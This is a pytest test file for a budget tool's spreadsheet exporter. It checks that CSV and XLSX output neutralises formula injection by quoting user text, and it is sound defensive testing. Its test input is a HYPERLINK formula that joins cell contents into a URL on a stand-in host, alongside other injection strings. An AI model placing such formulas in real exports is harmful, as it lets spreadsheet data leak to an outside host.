"""Every CSV and XLSX is written by ``documents/spreadsheet.py``, which keeps user text from becoming a formula:
text starting with =, +, -, @, a tab or a carriage return gets a leading ', while numbers and dates stay typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from tests.budget_helpers import make_line, officer
from tests.factories import user_model
from workbench.cli import main
from workbench.config import PROJECT_ROOT
from workbench.documents import spreadsheet
from workbench.ui.budget.dashboard import BudgetDashboard

FORMULA = '=HYPERLINK("http://x"&B3,"click")'
NOV25 = dt.date(2026, 11, 25)  # in fiscal year 2570


@pytest.mark.parametrize("text", [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_that_a_spreadsheet_would_run_is_written_as_text(text):
    columns = [("name", "ชื่อ"), ("amount", "จำนวนเงิน"), ("day", "วันที่")]
    rows = [{"name": text, "amount": Decimal("-12.50"), "day": dt.date(2026, 12, 1)}]
    sheet = load_workbook(io.BytesIO(spreadsheet.to_xlsx(rows, columns))).active
    name, amount, day = sheet[2]
    assert name.data_type == "s" and name.value == "'" + text
    assert amount.data_type == "n" and amount.value == -12.5  # a negative number stays a number
    assert day.is_date and day.value.date() == dt.date(2026, 12, 1)
    read = list(csv.reader(io.StringIO(spreadsheet.to_csv(rows, columns).decode("utf-8-sig"), newline="")))
    assert read[1] == ["'" + text, "-12.50", "2026-12-01"]


def test_plain_text_and_thai_are_left_alone():
    rows = [{"name": "ค่าเดินทาง 2570 (ไป-กลับ)", "note": "a=b"}]
    read = spreadsheet.csv_text(rows, [("name", "ชื่อ"), ("note", "หมายเหตุ")]).splitlines()
    assert read[1] == "ค่าเดินทาง 2570 (ไป-กลับ),a=b"


@pytest.fixture
def formula_line(engine, session):
    actor = officer(session)
    make_line(session, actor, fiscal_year=2570, code="F1", name_th=FORMULA, name_en=FORMULA,
              allocated="1000.00", allot="1000.00")
    return user_model(session, actor)


def test_the_budget_csv_from_the_cli_holds_the_line_name_as_text(engine, formula_line, capsys, tmp_path):
    url = engine.url.render_as_string(hide_password=False)
    assert main(["--database", url, "budget", "summary", "--fy", "2570", "--on", "2026-11-25",
                 "--format", "csv"]) == 0
    written = tmp_path / "budget.csv"
    written.write_text(capsys.readouterr().out, encoding="utf-8")
    rows = list(csv.DictReader(written.open(encoding="utf-8", newline="")))
    assert rows[0]["name"] == "'" + FORMULA and rows[0]["allocated"] == "1000.00"
    # opened in a spreadsheet program, the cell is text: openpyxl reads the same row as a string, not a formula
    book = spreadsheet.to_xlsx(rows, [(key, key) for key in rows[0]])
    cell = load_workbook(io.BytesIO(book)).active["B2"]
    assert cell.data_type == "s" and cell.value == "'" + FORMULA


def test_the_dashboard_xlsx_export_holds_the_line_name_as_text(engine, formula_line):
    dashboard = BudgetDashboard(engine, formula_line, today=NOV25)
    dashboard.export.button.click()
    sheet = load_workbook(io.BytesIO(dashboard.export.payload)).active
    row = next(r for r in sheet.iter_rows(min_row=4) if r[0].value == "F1")
    assert row[1].data_type == "s" and row[1].value == "'" + FORMULA
    assert row[4].data_type == "n" and row[4].value == 1000 and row[4].number_format == "#,##0.00"
    assert not [c.coordinate for r in sheet.iter_rows() for c in r if c.data_type == "f"]


def test_the_json_summary_keeps_the_name_as_it_was_typed(engine, formula_line, capsys):
    """JSON is data for programs, not a spreadsheet: the name is given exactly."""
    url = engine.url.render_as_string(hide_password=False)
    assert main(["--database", url, "budget", "summary", "--fy", "2570", "--on", "2026-11-25",
                 "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out)[0]["lines"][0]["name"] == FORMULA


WRITERS = re.compile(r"openpyxl import Workbook|Workbook\(\)|csv\.writer|csv\.DictWriter|\.to_excel\(|\.to_csv\(")


def test_spreadsheet_py_is_the_only_writer_of_csv_and_xlsx():
    offenders = []
    for folder in ("workbench", "dashboards", "notebooks"):
        for path in sorted((PROJECT_ROOT / folder).rglob("*")):
            if path.suffix not in (".py", ".ipynb") or path.name == "spreadsheet.py":
                continue
            if WRITERS.search(path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(PROJECT_ROOT)))
    assert offenders == []


def test_a_notebook_table_is_written_through_the_same_guard(tmp_path):
    """The comparative-parliaments notebook exports its pandas table with frame_to_xlsx / frame_to_csv."""
    import pandas as pd

    table = pd.DataFrame([{"ประเทศ": FORMULA, "ที่นั่ง": 200, "สตรี (%)": 30.5, "หมายเหตุ": None}])
    spreadsheet.frame_to_xlsx(table, tmp_path / "t.xlsx", sheet="parliaments")
    spreadsheet.frame_to_csv(table, tmp_path / "t.csv")
    sheet = load_workbook(tmp_path / "t.xlsx").active
    assert [c.value for c in sheet[1]] == ["ประเทศ", "ที่นั่ง", "สตรี (%)", "หมายเหตุ"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == "'" + FORMULA
    assert sheet["B2"].value == 200 and sheet["C2"].value == 30.5 and sheet["D2"].value is None
    read = list(csv.reader((tmp_path / "t.csv").open(encoding="utf-8-sig", newline="")))
    assert read[1] == ["'" + FORMULA, "200", "30.5", ""]
